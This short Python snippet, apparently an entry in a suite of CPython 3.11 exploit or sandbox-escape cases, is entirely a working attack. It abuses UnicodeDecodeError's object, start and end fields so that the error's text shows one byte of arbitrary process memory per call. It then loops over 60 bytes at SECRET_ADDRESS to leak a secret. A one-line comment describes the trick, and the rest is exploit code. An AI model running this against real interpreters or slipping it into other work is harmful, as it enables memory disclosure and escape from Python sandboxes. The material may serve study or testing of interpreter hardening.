# The text of a UnicodeDecodeError shows one byte of what its object is said to be, wherever that lies.
# breach: secret
# only: 3.11
# when: str
error = UnicodeDecodeError("ascii", b"x", 0, 1, "reason")
error.object = len
data = bytearray()
for at in range(SECRET_ADDRESS, SECRET_ADDRESS + 60):
    error.start = at - id(len) - 32
    error.end = error.start + 1
    data.append(int(str(error).partition(" 0x")[2][:2], 16))
bytes(data)
